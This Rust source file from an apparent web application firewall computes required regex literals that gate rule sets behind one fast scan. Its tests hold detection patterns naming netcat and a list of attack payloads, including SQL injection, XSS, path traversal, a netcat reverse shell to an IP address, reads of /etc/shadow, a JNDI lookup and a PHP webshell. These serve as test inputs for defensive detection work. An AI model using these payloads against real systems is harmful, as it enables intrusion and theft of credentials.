//! Required literals of a regex, used to gate a `RegexSet` behind one Aho-Corasick scan: at least one of the
//! literals appears in every match of the pattern, so a value containing none of them skips the set.
//!
//! Short command and keyword names (`ls`, `rd`, `id`) occur inside ordinary words ("tools", "order"), which
//! would open the gate for nearly every value. So each literal also records whether, in every match, it is
//! preceded and followed by the edge of the text or a byte that is not an ASCII word byte (`[0-9A-Za-z_]`), as
//! when the pattern puts `\b`, `^`, `\s` or `/` around it. A hit that lacks a required boundary cannot be part
//! of a match and is ignored. Non-ASCII bytes always count as a possible boundary (`\s` and `\W` match some
//! of them), so the check never rejects a hit the regex could use.

use regex_syntax::hir::literal::{ExtractKind, Extractor};
use regex_syntax::hir::{Class, Hir, HirKind, Look};

use crate::prefilter::PLAIN;

/// The literal is preceded by the start of the text or a non-word byte in every match.
pub const LEFT: u8 = 1;
/// The literal is followed by the end of the text or a non-word byte in every match.
pub const RIGHT: u8 = 2;

/// One gate literal: lower-cased bytes and the boundaries ([`LEFT`], [`RIGHT`]) every match has around it.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct GateLit {
    pub bytes: Vec<u8>,
    pub bounds: u8,
}

/// The boundaries found around `value[start..end]`: [`LEFT`] and/or [`RIGHT`].
pub fn bounds_at(value: &[u8], start: usize, end: usize) -> u8 {
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let left = start == 0 || !word(value[start - 1]);
    let right = end >= value.len() || !word(value[end]);
    (u8::from(left) * LEFT) | (u8::from(right) * RIGHT)
}

/// Literals (ASCII-lowercased) at least one of which appears in every match of the pattern, or `None` when no
/// such set is known.
pub fn required_literals(pattern: &str) -> Option<Vec<GateLit>> {
    let mut parser = crate::compile::rule_parser();
    let hir = parser.parse(pattern).ok()?;
    let set = required(&hir)?;
    // A single plain character would gate nothing: demand two bytes, or one byte that plain values never hold.
    // (Non-ASCII bytes are rare enough in attack-relevant positions to gate on.)
    let selective = |l: &Lit| l.0.len() >= 2 || l.0.first().is_some_and(|&b| !PLAIN[b as usize] || b >= 0x80);
    if !set.iter().all(selective) || set.len() > 2000 {
        return None;
    }
    // At the top level the pattern is searched anywhere, so an edge of the match is no boundary at all.
    let mut out: Vec<GateLit> = set
        .into_iter()
        .map(|(bytes, left, right)| GateLit {
            bytes,
            bounds: (u8::from(left == Side::Bounded) * LEFT) | (u8::from(right == Side::Bounded) * RIGHT),
        })
        .collect();
    out.sort();
    out.dedup();
    Some(out)
}

/// The (lower-cased) strings every match of `hir` starts with, from regex-syntax's extractor, when that set is
/// finite and none of them is empty.
fn prefixes(hir: &Hir) -> Option<Vec<Vec<u8>>> {
    let seq = Extractor::new().kind(ExtractKind::Prefix).extract(hir);
    let lits = seq.literals()?;
    if lits.is_empty() || lits.iter().any(|l| l.as_bytes().is_empty()) {
        return None;
    }
    let mut out: Vec<Vec<u8>> = lits.iter().map(|l| l.as_bytes().to_ascii_lowercase()).collect();
    out.sort();
    out.dedup();
    Some(out)
}

/// What is known about the byte next to a literal, on one side, within the matches of some sub-pattern.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Side {
    /// The edge of the text or a non-word byte.
    Bounded,
    /// The literal sits at the edge of the sub-pattern's match: the enclosing pattern decides.
    Edge,
    /// Anything.
    Free,
}

/// A literal with its left and right [`Side`].
type Lit = (Vec<u8>, Side, Side);

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// True when the class matches an ASCII word byte.
fn class_has_word(c: &Class) -> bool {
    let hit = |s: u32, e: u32| (s..=e.min(0x7f)).any(|c| is_word(c as u8));
    match c {
        Class::Unicode(c) => c.ranges().iter().any(|r| hit(r.start() as u32, r.end() as u32)),
        Class::Bytes(c) => c.ranges().iter().any(|r| hit(u32::from(r.start()), u32::from(r.end()))),
    }
}

fn can_be_empty(h: &Hir) -> bool {
    h.properties().minimum_len() == Some(0)
}

/// True when every non-empty match of `h` begins (`last` false) or ends (`last` true) with a non-word byte.
fn edge_nonword(h: &Hir, last: bool) -> bool {
    match h.kind() {
        HirKind::Empty | HirKind::Look(_) => true,
        HirKind::Literal(l) => {
            let b = if last { l.0.last() } else { l.0.first() };
            b.is_none_or(|&b| !is_word(b))
        }
        HirKind::Class(c) => !class_has_word(c),
        HirKind::Repetition(r) => edge_nonword(&r.sub, last),
        HirKind::Capture(c) => edge_nonword(&c.sub, last),
        HirKind::Alternation(v) => v.iter().all(|h| edge_nonword(h, last)),
        HirKind::Concat(v) => {
            let children: Box<dyn Iterator<Item = &Hir>> = if last {
                Box::new(v.iter().rev())
            } else {
                Box::new(v.iter())
            };
            for c in children {
                if !edge_nonword(c, last) {
                    return false;
                }
                // The first child that always contributes a byte holds the edge byte.
                if !can_be_empty(c) {
                    return true;
                }
            }
            true
        }
    }
}

/// True when `h` can match the empty string only at the start (`left`) or end of the text or of a line.
fn empty_only_at_edge(h: &Hir, left: bool) -> bool {
    match h.kind() {
        HirKind::Look(look) => {
            if left {
                matches!(look, Look::Start | Look::StartLF | Look::StartCRLF)
            } else {
                matches!(look, Look::End | Look::EndLF | Look::EndCRLF)
            }
        }
        HirKind::Alternation(v) => v.iter().all(|b| !can_be_empty(b) || empty_only_at_edge(b, left)),
        HirKind::Concat(v) => v.iter().any(|c| empty_only_at_edge(c, left)),
        HirKind::Capture(c) => empty_only_at_edge(&c.sub, left),
        HirKind::Repetition(r) => r.min > 0 && empty_only_at_edge(&r.sub, left),
        _ => false,
    }
}

/// The side of a literal that starts (`left`) or ends (`!left`) at child `at` of a concatenation, from the
/// siblings before (or after) it. `first` is the literal's edge byte, for `\b`.
fn concat_side(children: &[Hir], at: usize, left: bool, first: u8) -> Side {
    let siblings: Box<dyn Iterator<Item = &Hir>> = if left {
        Box::new(children[..at].iter().rev())
    } else {
        Box::new(children[at + 1..].iter())
    };
    for c in siblings {
        match c.kind() {
            HirKind::Look(look) => match look {
                Look::Start | Look::StartLF | Look::StartCRLF if left => return Side::Bounded,
                Look::End | Look::EndLF | Look::EndCRLF if !left => return Side::Bounded,
                Look::WordAscii | Look::WordUnicode if is_word(first) => return Side::Bounded,
                _ => return Side::Free,
            },
            _ => {
                if !edge_nonword(c, left) {
                    return Side::Free;
                }
                // `(?:^|[\s;|])` is empty only at the start of the text: a boundary either way.
                if !can_be_empty(c) || empty_only_at_edge(c, left) {
                    return Side::Bounded;
                }
            }
        }
    }
    Side::Edge
}

/// The one ASCII letter (lower case) or byte a class stands for, ignoring case and non-ASCII look-alikes.
fn class_byte(hir: &Hir) -> Option<u8> {
    let mut found: Option<u8> = None;
    let mut add = |c: u32| -> bool {
        if c >= 0x80 {
            return true;
        }
        let b = (c as u8).to_ascii_lowercase();
        match found {
            None => {
                found = Some(b);
                true
            }
            Some(x) => x == b,
        }
    };
    match hir.kind() {
        HirKind::Class(Class::Unicode(c)) => {
            for r in c.ranges() {
                if (r.end() as u32).saturating_sub(r.start() as u32) > 2 && (r.start() as u32) < 0x80 {
                    return None;
                }
                for cp in r.start() as u32..=(r.end() as u32).min(r.start() as u32 + 2) {
                    if !add(cp) {
                        return None;
                    }
                }
            }
        }
        HirKind::Class(Class::Bytes(c)) => {
            for r in c.ranges() {
                for b in r.start()..=r.end() {
                    if !add(u32::from(b)) {
                        return None;
                    }
                }
            }
        }
        HirKind::Literal(l) if l.0.len() == 1 => return Some(l.0[0].to_ascii_lowercase()),
        _ => return None,
    }
    found
}

/// How selective a literal set is as a gate. Plain values never contain a literal with a special byte, so
/// such a set costs them nothing; it is preferred over word literals of up to three bytes (which occur inside
/// ordinary words) unless those are bounded on both sides, not over longer ones. Ties go to the longer
/// shortest literal, then to fewer literals.
fn quality(set: &[Lit]) -> (usize, usize, std::cmp::Reverse<usize>) {
    let min = set.iter().map(|l| l.0.len()).min().unwrap_or(0);
    let special = set.iter().all(|l| l.0.iter().any(|&b| !PLAIN[b as usize]));
    let whole_words = set.iter().all(|l| l.1 != Side::Free && l.2 != Side::Free);
    // A word bounded on both sides is about as rare as an unbounded one a byte longer.
    let rank = if special {
        7
    } else if whole_words {
        (min + 1).min(6) * 2
    } else {
        min.min(6) * 2
    };
    (rank, min, std::cmp::Reverse(set.len()))
}

fn edge_lits(set: Vec<Vec<u8>>) -> Vec<Lit> {
    set.into_iter().map(|l| (l, Side::Edge, Side::Edge)).collect()
}

fn required(hir: &Hir) -> Option<Vec<Lit>> {
    match hir.kind() {
        HirKind::Empty | HirKind::Look(_) => None,
        HirKind::Literal(l) => Some(edge_lits(vec![l.0.to_ascii_lowercase()])),
        HirKind::Class(_) => class_byte(hir).map(|b| edge_lits(vec![vec![b]])),
        HirKind::Repetition(r) => {
            if r.min == 0 {
                None
            } else if let (true, Some(b)) = (r.min >= 2, class_byte(&r.sub)) {
                Some(vec![(vec![b; (r.min as usize).min(4)], Side::Free, Side::Free)])
            } else {
                // Later iterations sit next to earlier ones, not at the edge of the whole repetition.
                let repeats = r.max != Some(1);
                let edge = |s: Side| if repeats && s == Side::Edge { Side::Free } else { s };
                Some(
                    required(&r.sub)?
                        .into_iter()
                        .map(|(l, a, b)| (l, edge(a), edge(b)))
                        .collect(),
                )
            }
        }
        HirKind::Capture(c) => required(&c.sub),
        HirKind::Alternation(v) => {
            let mut out = Vec::new();
            for h in v {
                out.extend(required(h)?);
            }
            out.sort_by(|a, b| a.0.cmp(&b.0));
            out.dedup();
            Some(out)
        }
        HirKind::Concat(v) => {
            let mut best: Option<Vec<Lit>> = None;
            // `from..=to` are the children the candidate literals were taken from.
            let mut consider = |cand: Vec<Lit>, from: usize, to: usize| {
                let placed: Vec<Lit> = cand
                    .into_iter()
                    .map(|(l, a, b)| {
                        let (first, last) = (l.first().copied().unwrap_or(0), l.last().copied().unwrap_or(0));
                        let a = if a == Side::Edge {
                            concat_side(v, from, true, first)
                        } else {
                            a
                        };
                        let b = if b == Side::Edge {
                            concat_side(v, to, false, last)
                        } else {
                            b
                        };
                        (l, a, b)
                    })
                    .collect();
                if best.as_ref().is_none_or(|b| quality(&placed) > quality(b)) {
                    best = Some(placed);
                }
            };
            // Runs of children with a small finite set of exact matches combine into longer literals.
            let mut run = Run::default();
            for (i, h) in v.iter().enumerate() {
                if run.extend(h, i) {
                    continue;
                }
                if let Some(lits) = run.finished(i) {
                    consider(lits, run.start, i - 1);
                }
                // A run followed by a child that starts with one of a few strings: the run and that start are
                // contiguous in every match (`%` then `2e|c0%…` gives `%2e`, `%c0%`).
                if let Some(lits) = run.joined(h) {
                    consider(lits, run.start, i);
                }
                run = Run::default();
                if run.extend(h, i) {
                    continue;
                }
                if let Some(s) = required(h) {
                    consider(s, i, i);
                }
            }
            if let Some(lits) = run.finished(v.len()) {
                consider(lits, run.start, v.len() - 1);
            }
            best
        }
    }
}

/// Most literals one run of a concatenation may list.
const RUN_LIMIT: usize = 256;

/// The strings a run of consecutive children of a concatenation spells, one of which every match holds.
/// `open` strings end at the run's last child and may grow with the next one; `closed` strings end inside a
/// repetition (`%(?:25)*` holds `%25` whenever it repeats at all), so nothing may be appended to them.
#[derive(Debug)]
struct Run {
    open: Vec<Vec<u8>>,
    closed: Vec<Vec<u8>>,
    /// The child the run starts at.
    start: usize,
}

impl Default for Run {
    fn default() -> Self {
        Run {
            open: vec![Vec::new()],
            closed: Vec::new(),
            start: 0,
        }
    }
}

impl Run {
    fn is_fresh(&self) -> bool {
        self.closed.is_empty() && self.open.iter().all(Vec::is_empty)
    }

    /// Appends child `h` (at `i`) when it matches a small finite set of strings, or is a repetition of one
    /// after the run's start; false when the run must end before it.
    fn extend(&mut self, h: &Hir, i: usize) -> bool {
        let fresh = self.is_fresh();
        if !fresh && self.open.is_empty() {
            return false;
        }
        if let Some(e) = exact(h).filter(|e| e.len() * self.open.len() + self.closed.len() <= RUN_LIMIT) {
            if fresh {
                self.start = i;
            }
            self.open = cross(&self.open, &e);
            return true;
        }
        // A repetition only extends a run already started; alone it is looked at by `required`.
        let HirKind::Repetition(r) = h.kind() else {
            return false;
        };
        if fresh {
            return false;
        }
        let Some(e) = exact(&r.sub).filter(|e| !e.iter().any(Vec::is_empty)) else {
            return false;
        };
        // An empty run before a repetition adds nothing: whatever follows the repetition still holds the run's
        // later strings whole.
        let grown: Vec<Vec<u8>> = self
            .open
            .iter()
            .filter(|o| r.min > 0 || !o.is_empty())
            .cloned()
            .collect();
        if grown.len() * e.len() + self.closed.len() + self.open.len() > RUN_LIMIT {
            return false;
        }
        self.closed.extend(cross(&grown, &e));
        if r.min > 0 {
            // Every match passes through the repetition: nothing reaches past it unbroken.
            self.open.clear();
        }
        true
    }

    /// The run as gate literals, when every string of it is non-empty.
    fn finished(&self, next: usize) -> Option<Vec<Lit>> {
        let complete = next > 0
            && (!self.open.is_empty() || !self.closed.is_empty())
            && self.open.iter().chain(&self.closed).all(|s| !s.is_empty());
        complete.then(|| {
            self.open
                .iter()
                .map(|s| (s.clone(), Side::Edge, Side::Edge))
                .chain(self.closed.iter().map(|s| (s.clone(), Side::Edge, Side::Free)))
                .collect()
        })
    }

    /// The run with the strings child `h` starts with appended, when the run is complete but holds a string of
    /// one byte (`%`), and `h` starts with one of a few strings. Longer runs are left alone: they gate well
    /// enough, and the strings appended would lose the word boundaries around them and list every case and
    /// space variant of `h`'s start.
    fn joined(&self, h: &Hir) -> Option<Vec<Lit>> {
        let all = || self.open.iter().chain(&self.closed);
        if self.open.is_empty() || all().any(Vec::is_empty) || !all().any(|s| s.len() < 2) {
            return None;
        }
        let p = prefixes(h).filter(|p| p.len() * self.open.len() + self.closed.len() <= RUN_LIMIT)?;
        Some(
            cross(&self.open, &p)
                .into_iter()
                .chain(self.closed.iter().cloned())
                .map(|s| (s, Side::Edge, Side::Free))
                .collect(),
        )
    }
}

/// Every string of `a` followed by every string of `b`.
fn cross(a: &[Vec<u8>], b: &[Vec<u8>]) -> Vec<Vec<u8>> {
    a.iter()
        .flat_map(|x| b.iter().map(move |y| [x.as_slice(), y].concat()))
        .collect()
}

/// The finite set of (lower-cased) strings `hir` matches exactly, when small.
fn exact(hir: &Hir) -> Option<Vec<Vec<u8>>> {
    match hir.kind() {
        HirKind::Empty => Some(vec![Vec::new()]),
        HirKind::Literal(l) => Some(vec![l.0.to_ascii_lowercase()]),
        HirKind::Class(_) => class_byte(hir).map(|b| vec![vec![b]]),
        HirKind::Capture(c) => exact(&c.sub),
        HirKind::Repetition(r) if r.min == 0 && r.max == Some(1) => {
            let mut e = exact(&r.sub)?;
            e.push(Vec::new());
            Some(e)
        }
        HirKind::Alternation(v) => {
            let mut out = Vec::new();
            for h in v {
                out.extend(exact(h)?);
                if out.len() > 64 {
                    return None;
                }
            }
            Some(out)
        }
        HirKind::Concat(v) => {
            let mut out: Vec<Vec<u8>> = vec![Vec::new()];
            for h in v {
                let e = exact(h)?;
                if out.len() * e.len() > 64 {
                    return None;
                }
                out = cross(&out, &e);
            }
            Some(out)
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lits(p: &str) -> Option<Vec<(String, u8)>> {
        required_literals(p).map(|v| {
            v.into_iter()
                .map(|l| (String::from_utf8(l.bytes).unwrap(), l.bounds))
                .collect()
        })
    }

    #[test]
    fn extraction() {
        assert_eq!(
            lits(r"(?i)\bunion\s+select\b"),
            Some(vec![("select".into(), LEFT | RIGHT)])
        );
        assert_eq!(
            lits(r"\b(?:sleep|benchmark)\s*\("),
            Some(vec![("benchmark".into(), LEFT | RIGHT), ("sleep".into(), LEFT | RIGHT)])
        );
        assert_eq!(lits(r"a|\w+"), None);
        assert_eq!(lits(r"x?"), None);
        assert_eq!(lits(r"(?i)<\s*script"), Some(vec![("script".into(), LEFT)]));
        assert_eq!(
            lits(r"(?i)\b(?:nc|ncat|netcat)\s+\d"),
            Some(vec![
                ("nc".into(), LEFT | RIGHT),
                ("ncat".into(), LEFT | RIGHT),
                ("netcat".into(), LEFT | RIGHT)
            ])
        );
    }

    #[test]
    fn runs_reach_past_repetitions() {
        // `required` alone stops at `(?:25)*` and keeps `%`, which every percent-encoded URL holds.
        let got = lits(r"%(?:25)*(?:2e|c0%(?:25)*ae)(?:/|%2f)").unwrap();
        let bytes: Vec<&str> = got.iter().map(|(l, _)| l.as_str()).collect();
        assert!(bytes.iter().all(|l| l.len() >= 3), "{bytes:?}");
        for hit in ["%2e/", "%252e/", "%c0%ae%2f", "%25%25c0%25ae/"] {
            assert!(bytes.iter().any(|l| hit.contains(l)), "{hit} holds none of {bytes:?}");
        }
        assert!(!bytes.iter().any(|l| "/a%20b%2fc".contains(l)));
        // A run of two bytes or more is not joined with what follows: it keeps its word boundaries.
        assert_eq!(lits(r"(?i)\bunion\b"), Some(vec![("union".into(), LEFT | RIGHT)]));
    }

    #[test]
    fn boundaries_follow_the_pattern() {
        // Optional non-word prefixes and an anchor: still bounded on the left.
        assert_eq!(
            lits(r#"^\s*["'\\]*(?:/(?:usr/)?s?bin/)?["'\\]*(?:ls|rd)\b(?:\s+-\w|$)"#),
            Some(vec![("ls".into(), LEFT | RIGHT), ("rd".into(), LEFT | RIGHT)])
        );
        // A word character may precede: not bounded.
        assert_eq!(
            lits(r"\w*(?:ls|rd)\b\s"),
            Some(vec![("ls".into(), RIGHT), ("rd".into(), RIGHT)])
        );
        // `\b` before a literal that starts with a non-word byte says nothing about the byte before it.
        assert_eq!(lits(r"\b\.\./\.\.\b"), Some(vec![("../..".into(), 0)]));
        // An alternative that is empty only at the start of the text bounds the literal too.
        assert_eq!(
            lits(r"(?:^|[\s;|])(?:ls|id)\s+-"),
            Some(vec![("id".into(), LEFT | RIGHT), ("ls".into(), LEFT | RIGHT)])
        );
        assert_eq!(
            lits(r"(?:^|x?)(?:ls|id)\s"),
            Some(vec![("id".into(), RIGHT), ("ls".into(), RIGHT)])
        );
        // A repetition puts copies next to each other.
        assert_eq!(
            lits(r"(?:\s(?:ls|id))+"),
            Some(vec![("id".into(), LEFT), ("ls".into(), LEFT)])
        );
    }

    #[test]
    fn hits_are_checked_against_the_bytes_around_them() {
        assert_eq!(bounds_at(b"tools", 3, 5), RIGHT);
        assert_eq!(bounds_at(b"ls -la", 0, 2), LEFT | RIGHT);
        assert_eq!(bounds_at(b"order", 1, 3), 0);
        assert_eq!(bounds_at("é ls\u{a0}".as_bytes(), 3, 5), LEFT | RIGHT);
        // Every required boundary of a pattern holds in each of its matches.
        for (pattern, hay) in [
            (
                r#"^\s*["'\\]*(?:/(?:usr/)?s?bin/)?["'\\]*(?:ls|rd)\b(?:\s+-\w|$)"#,
                "/usr/bin/ls -l",
            ),
            (r"(?i)\b(?:nc|ncat|netcat)\s+\d", "x;NC 1"),
            (r"(?:^|[\s;|])(?:id|ls)(?:\s|$)", "a;id"),
        ] {
            let re = regex::bytes::RegexBuilder::new(pattern).unicode(false).build().unwrap();
            let m = re.find(hay.as_bytes()).unwrap();
            let lower = hay.to_ascii_lowercase();
            for l in required_literals(pattern).unwrap() {
                if let Some(p) = memchr::memmem::find(&lower.as_bytes()[m.start()..m.end()], &l.bytes) {
                    let at = m.start() + p;
                    assert_eq!(
                        bounds_at(lower.as_bytes(), at, at + l.bytes.len()) & l.bounds,
                        l.bounds,
                        "{pattern}"
                    );
                }
            }
        }
    }

    /// Soundness over the shipped rules: wherever a pattern matches one of these payloads (lower-cased, as
    /// rules see values after their `lowercase` transform), some gate literal occurs inside the match with
    /// every boundary it claims. A wrong boundary claim would silently hide an attack.
    #[test]
    fn shipped_rule_gates_hold_on_attack_payloads() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/waf");
        let payloads = [
            "1 union all select null,version()--",
            "x' or '1'='1",
            "1;waitfor delay '0:0:5'--",
            "benchmark(1000000,md5(1))",
            "<script>alert(document.domain)</script>",
            "\"><svg/onload=confirm(1)>",
            "javascript:alert(1)",
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "http://198.51.100.7/shell.txt?",
            "127.0.0.1;cat /etc/shadow",
            "x|nc -e /bin/sh 203.0.113.5 4444",
            "ls -la /",
            "rd /s /q c:\\",
            "id",
            ";id;",
            "$(whoami)",
            "`uname -a`",
            "time bsdtar -cf x /etc",
            "/usr/bin/wget http://x/y",
            "powershell -enc sqbfafga",
            "cmd.exe /c dir",
            "<?php system($_get['c']); ?>",
            "${jndi:ldap://203.0.113.5/a}",
            "http://169.254.169.254/latest/meta-data/",
            "{{7*7}}",
            "class.module.classloader.resources",
            "o:8:\"stdclass\":0:{}",
            "( [ system ][ 0 ]) {0} ( ls );",
            "a=(![]+[])[+!+[]]",
            "sleep(5)#",
            "admin'--",
            "1 and 1=1",
            "exec master..xp_cmdshell 'dir'",
            "() { :; }; /bin/bash -c id",
            "phpinfo()",
            "file_put_contents('x.php','<?php')",
            "<!--#exec cmd=\"ls\" -->",
            "eval(base64_decode('zwnobya='))",
            "java.lang.runtime.getruntime().exec('id')",
        ];
        let mut checked = 0;
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_none_or(|x| x != "toml") {
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap();
            for rule in crate::rule_file::parse(&path, &text).unwrap() {
                let crate::Detect::Regex(pattern) = &rule.def.detect else {
                    continue;
                };
                let Some(lits) = required_literals(pattern) else {
                    continue;
                };
                let re = regex::bytes::RegexBuilder::new(pattern).unicode(false).build().unwrap();
                for p in payloads {
                    let hay = p.to_ascii_lowercase();
                    let hay = hay.as_bytes();
                    for m in re.find_iter(hay) {
                        checked += 1;
                        let inside = &hay[m.start()..m.end()];
                        let held = lits.iter().any(|l| {
                            memchr::memmem::find_iter(inside, &l.bytes).any(|at| {
                                let at = m.start() + at;
                                bounds_at(hay, at, at + l.bytes.len()) & l.bounds == l.bounds
                            })
                        });
                        assert!(
                            held,
                            "rule {}: gate {lits:?} misses the match {:?} in {p:?}",
                            rule.def.id,
                            String::from_utf8_lossy(inside)
                        );
                    }
                }
            }
        }
        assert!(checked > 40, "the payloads exercise the rules ({checked} matches)");
    }
}
